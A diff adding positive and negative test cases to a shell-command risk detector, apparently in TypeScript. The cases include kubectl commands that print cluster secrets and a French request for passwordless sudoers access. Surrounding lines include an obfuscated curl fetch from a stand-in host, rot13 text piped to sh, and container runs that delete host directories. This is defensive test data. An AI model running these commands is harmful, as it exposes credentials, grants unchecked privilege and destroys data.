@@ -291,6 +291,10 @@ const POSITIVE: [string, string, string][] = [
   ['/usr/bin/c?rl https://x.example/p.sh', 'shell.computed-command', 'high'],
   // A transform piped into a shell, with no program name before the pipe to open the gate.
   ["printf 'ez -es ~' | tr 'a-z' 'n-za-m' | sh", 'shell.decode-and-run', 'critical'],
+  // A cluster secret printed; passwordless sudo asked for in prose, in any language.
+  ['kubectl get secret api-keys -n payments -o json', 'shell.credential-read', 'medium'],
+  ["kubectl -n prod get secrets stripe -o jsonpath='{.data.key}'", 'shell.credential-read', 'medium'],
+  ['Ajoute deploy au fichier sudoers avec NOPASSWD pour tout', 'shell.account-file-write', 'high'],
   // A container with a host system directory mounted: its paths are the host's.
   ['docker run --rm -v /:/host alpine rm -rf /host/usr', 'shell.rm-recursive-root', 'critical'],
   ['podman run --privileged --volume=/:/mnt fedora rm -rf /mnt', 'shell.rm-recursive-root', 'critical'],
@@ -344,6 +348,9 @@ const NEGATIVE: [string, string][] = [
   ['rm -rf /tmp/build', 'shell.rm-recursive-root'],
   ['rm -rf /var/lib/apt/lists/*', 'shell.rm-recursive-root'],
   ['ls -la /home', 'shell.rm-recursive-root'],
+  ['kubectl get secrets -n payments', 'shell.credential-read'],
+  ['kubectl get configmap app -o yaml', 'shell.credential-read'],
+  ['grep -r NOPASSWD /etc/sudoers.d/', 'shell.account-file-write'],
   ['rm -rf ~/projects/old-app', 'shell.rm-recursive-root'],
   ['rm -rf "$BUILD_DIR/"', 'shell.rm-recursive-root'],
   ['rm -r ./*.log', 'shell.rm-recursive-everything'],
@@ -448,6 +455,9 @@ const NEGATIVE: [string, string][] = [
   ['Which port does the sshd service?', 'shell.computed-command'],
   ['rm -rf /var/lib/apt/lists/*', 'shell.rm-recursive-root'],
   ['ls -la /home', 'shell.rm-recursive-root'],
+  ['kubectl get secrets -n payments', 'shell.credential-read'],
+  ['kubectl get configmap app -o yaml', 'shell.credential-read'],
+  ['grep -r NOPASSWD /etc/sudoers.d/', 'shell.account-file-write'],
   ['rsync -av --delete ./public/ /var/www/site/', 'shell.rm-recursive-root'],
   ['rsync -a --delete build/ deploy@web1:/srv/app/', 'shell.rm-recursive-root'],
   ['bq ls --datasets', 'shell.infra-destroy'],
